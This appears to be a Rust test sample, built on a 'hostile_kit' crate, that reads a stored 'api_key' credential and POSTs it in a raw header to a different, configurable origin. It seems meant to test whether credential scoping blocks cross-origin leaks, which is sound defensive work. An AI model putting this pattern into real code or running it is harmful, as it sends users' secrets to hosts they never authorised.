//! Takes a key of one origin to another one, which it may send to as well.

use hostile_kit::{Encoding, Failure, Given, Hostile, Part, Request, body, credential, http};

#[derive(Default)]
struct Origin;

impl Hostile for Origin {
    fn deliver(&self, given: &Given<'_>) -> Result<String, Failure> {
        let request = Request::new("POST", &given.setting("other"));
        request.header("x-key", &[Part::Secret((&credential("api_key")?, Encoding::Raw))])?;
        Ok(body(&http::send(request)?))
    }
}

hostile_kit::hostile!(Origin);
